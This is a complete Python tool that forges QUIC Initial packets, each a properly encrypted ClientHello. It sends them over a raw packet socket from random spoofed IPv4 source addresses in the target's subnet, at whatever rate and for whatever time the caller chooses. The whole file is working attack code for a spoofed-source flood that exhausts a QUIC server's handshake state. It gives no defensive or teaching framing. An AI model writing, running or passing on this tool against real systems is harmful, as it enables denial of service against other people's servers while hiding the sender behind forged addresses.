"""Sends first QUIC packets of tables' clients from addresses that nobody has, as fast as asked, through a packet socket.

Usage: forge.py INTERFACE HOST PORT FIRST LAST PER_SECOND SECONDS: sources are drawn from the network of HOST, last byte
FIRST to LAST. Needs root and the module cryptography."""
import fcntl, os, random, socket, struct, sys, time
from cryptography.hazmat.primitives import hashes, hmac
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDFExpand

SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")


def vector(length, data):
    return len(data).to_bytes(length, "big") + data


def extension(kind, data):
    return struct.pack("!H", kind) + vector(2, data)


def client_hello(source_id):
    parameters = bytes([0x0F]) + vector(1, source_id)
    for kind in (0x04, 0x05, 0x06):
        parameters += bytes([kind]) + vector(1, struct.pack("!I", 65536 | 0x80000000))
    extensions = b"".join((
        extension(0x0A, vector(2, b"\x00\x1d")),
        extension(0x0D, vector(2, b"\x08\x07")),
        extension(0x10, vector(2, vector(1, b"podbay"))),
        extension(0x2B, vector(1, b"\x03\x04")),
        extension(0x2D, vector(1, b"\x01")),
        extension(0x33, vector(2, b"\x00\x1d" + vector(2, os.urandom(32)))),
        extension(0x39, parameters),
    ))
    body = b"\x03\x03" + os.urandom(32) + b"\x00" + vector(2, b"\x13\x01") + b"\x01\x00" + vector(2, extensions)
    return b"\x01" + vector(3, body)


def expand(secret, label, length):
    info = struct.pack("!H", length) + vector(1, b"tls13 " + label) + b"\x00"
    return HKDFExpand(hashes.SHA256(), length, info).derive(secret)


def initial():
    """A whole first packet, by RFC 9001 section 5."""
    target_id, source_id = os.urandom(8), os.urandom(8)
    extract = hmac.HMAC(SALT, hashes.SHA256())
    extract.update(target_id)
    secret = expand(extract.finalize(), b"client in", 32)
    key, iv, mask_key = expand(secret, b"quic key", 16), expand(secret, b"quic iv", 12), expand(secret, b"quic hp", 16)
    hello = client_hello(source_id)
    frames = b"\x06\x00" + struct.pack("!H", len(hello) | 0x4000) + hello
    head = b"\xc3" + struct.pack("!I", 1) + vector(1, target_id) + vector(1, source_id) + b"\x00"
    room = 1200 - len(head) - 2
    head += struct.pack("!H", room | 0x4000) + bytes(4)
    sealed = AESGCM(key).encrypt(iv, frames.ljust(room - 4 - 16, b"\x00"), head)
    mask = Cipher(algorithms.AES(mask_key), modes.ECB()).encryptor().update(sealed[:16])
    first = head[0] ^ (mask[0] & 0x0F)
    number = bytes(a ^ b for a, b in zip(head[-4:], mask[1:5]))
    return bytes([first]) + head[1:-4] + number + sealed


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source, target, port, data):
    udp = struct.pack("!HHHH", random.randrange(20000, 60000), port, 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def main():
    interface, host, port, first, last, per_second, seconds = sys.argv[1:]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    own = fcntl.ioctl(out, 0x8927, struct.pack("256s", interface.encode()))[18:24]
    asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asked.connect((host, int(port)))
    asked.send(b"?")  # The system asks for the host's hardware address.
    time.sleep(0.2)
    hardware = next(line.split()[3] for line in open("/proc/net/arp") if line.split()[0] == host)
    frame = bytes.fromhex(hardware.replace(":", "")) + own + b"\x08\x00"
    target, start, sent = socket.inet_aton(host), time.monotonic(), 0
    while (now := time.monotonic() - start) < float(seconds):
        if sent < now * float(per_second):
            source = target[:3] + bytes([random.randint(int(first), int(last))])
            out.send(frame + datagram(source, target, int(port), initial()))
            sent += 1
        else:
            time.sleep(0.001)
    print(sent)


main()
